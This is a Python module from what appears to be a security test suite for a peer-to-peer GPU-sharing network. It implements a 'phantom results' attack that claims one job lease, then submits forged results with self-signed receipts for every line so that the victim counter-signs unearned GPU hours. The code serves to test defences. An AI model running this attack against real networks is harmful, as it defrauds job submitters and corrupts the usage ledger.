"""Phantom batch results: a provider asks the job's submitter to counter-sign work it never did.

The attacker claims one lease of the victim's job, then hands in a result for every line of the
job (its own lease's lines and all the others), each with a receipt it signed claiming ``gpus``
GPUs for ``hours`` hours. A submitter that counter-signs them credits the attacker in the ledger
with GPU time it never gave (issue 16, item 5).

Without a ``job_id`` the attack first has the victim's user submit a ``lines``-line job for
``model`` over the victim's HTTP endpoint (loopback: what ``benchmarks/attacks.py`` does).
"""

from __future__ import annotations

import json
import time
from collections.abc import Sequence

import httpx
import trio

from garage_p2p.core.jobs import PROTOCOL_JOBS, JobRequest, LeaseGrant, ResultsAck
from garage_p2p.core.messages import decode_json, encode_json
from garage_p2p.core.receipts import Receipt, encode_receipt, pack_signed, sign_receipt
from garage_p2p.core.wire import FrameType, encode_frame
from garage_p2p.daemon import Peer
from garage_p2p.jobs.submitter import request_id
from garage_p2p.mesh.streams import FrameStream, StreamBroken, close_quietly, write_all

from . import Target

TIMEOUT = 10.0
VICTIM = "consumer"
"""The victim submits the job (benchmarks/attacks.py: V)."""


async def submit_job(victim: Target, model: str, lines: int) -> tuple[str, list[str]]:
    """A job of ``lines`` lines for ``model`` submitted on the victim's endpoint: (job id, custom ids)."""
    custom_ids = [f"req-{i}" for i in range(lines)]
    body = {"model": model, "messages": [{"role": "user", "content": "hi"}], "max_tokens": 2}
    text = "\n".join(json.dumps({"custom_id": c, "url": "/v1/chat/completions", "body": body}) for c in custom_ids)
    base = victim.api_url.removesuffix("/v1")
    async with httpx.AsyncClient(timeout=TIMEOUT, trust_env=False) as http:
        r = await http.post(f"{base}/garage/v1/jobs", json={"input": text, "shard_size": 5})
    r.raise_for_status()
    return r.json()["id"], custom_ids


async def attack(
    attacker: Peer,
    victim: Target,
    *,
    job_id: str | None = None,
    model: str = "tiny",
    custom_ids: Sequence[str] = (),
    lines: int = 200,
    gpus: int = 64,
    hours: float = 24.0,
) -> dict[str, int | float | str]:
    """Claim a lease of ``job_id``, then hand in phantom results for every line (``custom_ids`` in input order)."""
    if job_id is None:
        job_id, custom_ids = await submit_job(victim, model, lines)
    me = attacker.identity
    end_ms = int(time.time() * 1000)
    start_ms = end_ms - int(hours * 3600 * 1000)

    def phantom(index: int, custom_id: str) -> dict:
        receipt = Receipt(
            request_id=request_id(job_id, index), consumer=victim.peer_id, provider=me.peer_id, model=model,
            prompt_tokens=10, completion_tokens=10, gpus=gpus, gpu_us=(end_ms - start_ms) * 1000 * gpus,
            start_ms=start_ms, end_ms=end_ms,
        )  # fmt: skip
        raw = encode_receipt(receipt)
        body = {"choices": [{"message": {"role": "assistant", "content": "phantom"}}], "usage": {"total_tokens": 20}}
        return {
            "custom_id": custom_id,
            "status_code": 200,
            "body": body,
            "receipt": pack_signed(raw, sign_receipt(me, raw)),
        }

    stream = await attacker.mesh.open_stream(victim.peer_id, victim.addrs, PROTOCOL_JOBS)
    conn = FrameStream(stream, {FrameType.JOB_REPLY: 32 * 1024 * 1024})

    async def ask(request: JobRequest) -> bytes:
        await write_all(stream, encode_frame(FrameType.JOB_REQUEST, encode_json(request)))
        frame = await conn.read()
        if frame is None:
            raise StreamBroken("the victim closed the stream")
        return frame.payload

    cosigs = 0
    leased = 0
    try:
        with trio.fail_after(TIMEOUT):
            grant = decode_json(LeaseGrant, await ask(JobRequest(op="claim", job_id=job_id)))
            leased = len(grant.lines)
            results = tuple(phantom(i, cid) for i, cid in enumerate(custom_ids))
            ack = decode_json(
                ResultsAck, await ask(JobRequest(op="results", job_id=job_id, lease_id=grant.lease_id, results=results))
            )
            cosigs = len(ack.cosigs)
    except StreamBroken:
        pass  # the victim closed the stream
    finally:
        await close_quietly(stream)
    return {
        "lines_leased": leased,
        "results_sent": len(custom_ids),
        "gpu_hours_claimed": len(custom_ids) * gpus * hours,
        "cosigs_received": cosigs,
    }
